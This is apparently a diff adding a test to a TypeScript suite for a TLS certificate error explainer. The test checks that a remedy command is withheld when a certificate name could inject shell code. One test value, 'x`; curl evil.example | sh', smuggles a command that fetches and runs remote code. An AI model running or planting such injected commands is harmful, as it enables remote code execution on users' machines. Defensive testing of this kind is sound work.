@@ -35,6 +35,15 @@ describe('a certificate for other names', () => {
     ])
   })
 
+  test('is told of without a command where a name of it may not stand before a shell', async () => {
+    const remedyFor = async (name: string) => {
+      const { certificatePem } = await authority.issue({ ...LEAF, dns: [name] })
+      return explain('ERR_TLS_CERT_ALTNAME_INVALID', chainOf(certificatePem))[0]?.remedy
+    }
+    expect(await remedyFor('api.internal')).toContain('--tls-server-name=api.internal`')
+    expect(await remedyFor('x`; curl evil.example | sh')).toBeUndefined()
+  })
+
   test('has none but a common name', async () => {
     const { certificatePem } = await authority.issue({ ...LEAF, dns: [] })
     expect(explain('ERR_TLS_CERT_ALTNAME_INVALID', chainOf(certificatePem))).toMatchObject([
